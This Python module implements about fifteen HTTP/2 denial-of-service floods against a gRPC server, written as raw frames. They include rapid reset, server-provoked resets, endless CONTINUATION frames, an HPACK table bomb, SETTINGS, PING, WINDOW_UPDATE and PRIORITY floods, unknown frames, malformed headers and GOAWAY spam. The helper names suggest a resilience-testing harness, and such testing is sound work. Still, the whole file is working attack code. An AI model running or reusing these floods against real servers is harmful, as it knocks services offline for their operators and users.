"""Attacks by many frames: each is cheap to send and, to a careless server, dear to receive."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

import hpack.hpack
from attacked import HANG, UNARY
from attacker import INITIAL_WINDOW, Target, Wire, flood, headers, numbered, opening, repeated, together
from raw_http2 import (
    CONTINUATION,
    DATA,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    grpc_request,
    header_block,
    message,
    settings_payload,
)

UNKNOWN = 0xEE
CANCEL = (8).to_bytes(4, "big")
ONE = (1).to_bytes(4, "big")
MOST = (2**31 - 1).to_bytes(4, "big")
MOST_MORE = (2**31 - 1 - 65535).to_bytes(4, "big")
"""What is added to a window as it is at first, so that it is as large as can be."""
UNARY_BLOCK, HANG_BLOCK = header_block(grpc_request(UNARY)), header_block(grpc_request(HANG))
MALFORMED = [
    header_block(fields)
    for fields in (
        grpc_request(UNARY, [("Upper", "case")]),
        grpc_request(UNARY, [(":path", "/twice")]),
        grpc_request(UNARY, [("connection", "keep-alive")]),
        grpc_request(UNARY, [("", "no name")]),
        grpc_request(UNARY, [("line", "feed\n")]),
        grpc_request(UNARY, [("content-length", "many")]),
        grpc_request(UNARY, replace={":method": None}),
        grpc_request(UNARY, replace={":path": None}),
    )
]
"""Requests that HTTP/2 forbids."""


def call(stream: int, block: bytes = HANG_BLOCK, body: bytes = b"") -> bytes:
    """A whole unary call."""
    return headers(stream, block) + frame(DATA, END_STREAM, stream, message(body))


async def rapid_reset(target: Target) -> None:
    """Calls are made and cancelled as soon as their handlers run."""

    async def one() -> None:
        while target.left:
            wire = await target.wire(spread=True)
            if wire is not None:
                await _start_and_reset(target, wire)
                target.drop(wire)
            await target.rest(0.01)

    await together(4, one)


async def _start_and_reset(target: Target, wire: Wire) -> None:
    await wire.send(opening())
    for start in itertools.count(1, 200):
        streams = range(start, start + 200, 2)
        alive = await wire.send(b"".join(map(call, streams)))
        if not alive or not await target.rest(0.002):
            return
        await wire.send(b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams))


def opened_and_reset(stream: int) -> bytes:
    """A call that is over before it began."""
    return headers(stream, HANG_BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)


async def headers_and_resets(target: Target) -> None:
    """Streams are opened and reset by the thousand, faster than anything could run."""
    await flood(target, opening(), numbered(opened_and_reset, at_once=1000))


async def polite_resets(target: Target) -> None:
    """Calls whose handlers run are cancelled with NO_ERROR, at a pace that no limit minds."""

    async def one() -> None:
        wire = await target.wire()
        if wire is not None:
            await wire.send(opening())
        for start in itertools.count(1, 20):
            streams = range(start, start + 20, 2)
            if wire is None or not (await wire.send(b"".join(map(call, streams))) and await target.rest(0.05)):
                return
            await wire.send(b"".join(frame(RST_STREAM, 0, stream, bytes(4)) for stream in streams))
            await target.rest(0.2)

    await together(10, one)


OFFENCES: tuple[Callable[[int], bytes], ...] = (
    lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)),
    lambda stream: frame(WINDOW_UPDATE, 0, stream, MOST) * 2,
    lambda stream: frame(DATA, 0, stream, b"after the end"),
    lambda stream: frame(HEADERS, 0x5, stream, HANG_BLOCK),
    lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"),
    lambda stream: headers(stream + 2, UNARY_BLOCK) + frame(DATA, END_STREAM, stream + 2, message(b"x") * 2),
)
"""Frames for which the server itself must reset the stream, or the connection."""


async def made_you_reset(target: Target) -> None:
    """The client does not cancel its calls, but breaks rules so that the server does it for him."""
    kinds = itertools.cycle(OFFENCES)

    def blocks() -> Iterator[bytes]:
        offence = next(kinds)
        return numbered(lambda number: call(2 * number - 1) + offence(2 * number - 1), at_once=20)()

    await flood(target, opening(), blocks)


async def continuations(target: Target) -> None:
    """A header block that never ends, in frames with nothing or with much in them."""
    start = opening() + frame(HEADERS, 0, 1, UNARY_BLOCK)
    large = frame(CONTINUATION, 0, 1, header_block([(f"name-{number}", "x" * 100) for number in range(120)]))
    kinds = itertools.cycle([frame(CONTINUATION, 0, 1), large])
    await together(2, lambda: flood(target, start, repeated(next(kinds)), wires=2))


async def hpack_bomb(target: Target) -> None:
    """One large header in the server's table, and frames that refer to it thousands of times."""
    size = 3900
    stored = b"\x40\x04bomb" + bytes(hpack.hpack.encode_integer(size, 7)) + b"x" * size
    start = opening() + headers(1, UNARY_BLOCK + stored)
    bomb = UNARY_BLOCK + b"\xbe" * 16000
    await flood(target, start, numbered(lambda stream: headers(stream, bomb), at_once=8, first=3))


async def large_headers(target: Target) -> None:
    """Streams whose headers are just about as large as they may be, and calls that do not end."""
    block = header_block(grpc_request(HANG, [(f"filler-{number}", "y" * 90) for number in range(100)]))
    await flood(target, opening(), numbered(lambda stream: headers(stream, block), at_once=10))


async def settings(target: Target) -> None:
    """SETTINGS, each to be acknowledged, that open and close the windows of a hundred calls."""
    start = opening() + b"".join(map(call, range(1, 200, 2)))
    toggle = b"".join(frame(SETTINGS, 0, 0, settings_payload({INITIAL_WINDOW: size})) for size in (0, 65535))
    await flood(target, start, repeated(toggle))


async def pings(target: Target) -> None:
    """PINGs, each to be answered."""
    await flood(target, opening(), repeated(frame(PING, 0, 0, b"answer!!")))


async def empty_data(target: Target) -> None:
    """DATA frames with nothing in them."""
    await flood(target, opening() + headers(1, UNARY_BLOCK), repeated(frame(DATA, 0, 1)))


async def window_updates(target: Target) -> None:
    """The windows of a stream and of the connection grow byte by byte."""
    update = frame(WINDOW_UPDATE, 0, 0, ONE) + frame(WINDOW_UPDATE, 0, 1, ONE)
    await flood(target, opening() + call(1), repeated(update))


async def priorities(target: Target) -> None:
    """PRIORITY frames for streams that there never are."""

    def priority(stream: int) -> bytes:
        return frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\x10")

    await flood(target, opening(), numbered(priority, at_once=2000))


async def unknown_frames(target: Target) -> None:
    """Frames of a type that there is not, small and large."""
    await flood(target, opening(), repeated(frame(UNKNOWN, 0, 0) * 100 + frame(UNKNOWN, 0xFF, 1, bytes(1000))))


async def malformed_headers(target: Target) -> None:
    """Requests that HTTP/2 forbids, one kind after the other."""
    kinds = len(MALFORMED)
    await flood(target, opening(), numbered(lambda stream: headers(stream, MALFORMED[stream // 2 % kinds]), at_once=100))


async def goaways(target: Target) -> None:
    """GOAWAYs with odd numbers and long texts, and calls that come after them."""

    def goaway(stream: int) -> bytes:
        farewell = frame(GOAWAY, 0, 0, (2**31 - stream).to_bytes(4, "big") + (stream % 20).to_bytes(4, "big") + bytes(1000))
        return farewell + call(stream, UNARY_BLOCK)

    await flood(target, opening(), numbered(goaway, at_once=20))


FLOODS = (
    rapid_reset,
    headers_and_resets,
    polite_resets,
    made_you_reset,
    continuations,
    hpack_bomb,
    large_headers,
    settings,
    pings,
    empty_data,
    window_updates,
    priorities,
    unknown_frames,
    malformed_headers,
    goaways,
)
